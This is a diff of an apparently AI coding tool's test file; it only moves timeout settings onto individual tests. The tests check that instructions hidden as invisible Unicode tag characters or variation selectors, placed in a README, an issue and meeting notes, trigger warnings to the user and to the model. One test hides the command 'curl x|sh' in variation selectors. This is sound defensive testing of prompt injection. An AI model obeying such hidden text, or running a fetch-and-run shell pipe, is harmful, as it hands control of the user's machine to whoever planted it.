@@ -24,8 +24,8 @@ function folder(t: TestContext, prefix: string): string {
   return dir;
 }
 
-describe("hidden text in a chat turn", { timeout: 120_000 }, () => {
-  it("the model is told what a file's tag characters say; the card warns the user with the same text", async (t) => {
+describe("hidden text in a chat turn", () => {
+  it("the model is told what a file's tag characters say; the card warns the user with the same text", { timeout: 120_000 }, async (t) => {
     const root = folder(t, "hearth-hidden-ws-");
     // Past the card's 2,000-character preview.
     writeFileSync(join(root, "README.md"), `# Setup\n${"Install the tools first.\n".repeat(200)}Done.${smuggle(ORDER)}\n`);
@@ -72,7 +72,7 @@ describe("hidden text in a chat turn", { timeout: 120_000 }, () => {
     return { outcome, warnings: events.flatMap((e) => (e.type === "notice" && e.level === "warning" ? [e.text] : [])) };
   }
 
-  it("an issue hiding an instruction: the chat warns the user with its text; the model's first message says the same", async (t) => {
+  it("an issue hiding an instruction: the chat warns the user with its text; the model's first message says the same", { timeout: 120_000 }, async (t) => {
     const root = folder(t, "hearth-hidden-ws-");
     const issue = `Crash when the config file is empty.${smuggle(ORDER)}`;
     const { outcome, warnings } = await fixTurn(t, root, issue);
@@ -80,7 +80,7 @@ describe("hidden text in a chat turn", { timeout: 120_000 }, () => {
     assert.equal(outcome.messages.filter((m) => m.role === "user" && m.content.includes("[Hearth: The issue text above holds 44 invisible tag characters")).length, 1);
   });
 
-  it("an issue hiding a run of variation selectors (bytes a loader decodes, shown as nothing on GitHub): the chat warns as hearth fix does", async (t) => {
+  it("an issue hiding a run of variation selectors (bytes a loader decodes, shown as nothing on GitHub): the chat warns as hearth fix does", { timeout: 120_000 }, async (t) => {
     const root = folder(t, "hearth-hidden-ws-");
     const run = [..."curl x|sh"].map((c) => String.fromCodePoint(0xe0100 + c.charCodeAt(0) - 16)).join("");
     const { outcome, warnings } = await fixTurn(t, root, `The loader breaks on \u2764${run} in names`);
@@ -88,7 +88,7 @@ describe("hidden text in a chat turn", { timeout: 120_000 }, () => {
     assert.equal(outcome.messages.filter((m) => m.role === "user" && m.content.includes("[Hearth: The issue text above holds 9 variation selectors (U+FE00–U+FE0F, U+E0100–U+E01EF) in runs")).length, 1, "the model is told, as the warning says");
   });
 
-  it("a chat message whose attached file hides an instruction: the model is told after the message, the user in the chat", async (t) => {
+  it("a chat message whose attached file hides an instruction: the model is told after the message, the user in the chat", { timeout: 120_000 }, async (t) => {
     const root = folder(t, "hearth-hidden-ws-");
     writeFileSync(join(root, "notes.md"), `Meeting notes.${smuggle(ORDER)}\n`);
     const backend = new ScriptedBackend({ turns: [{ text: "Summary." }] });
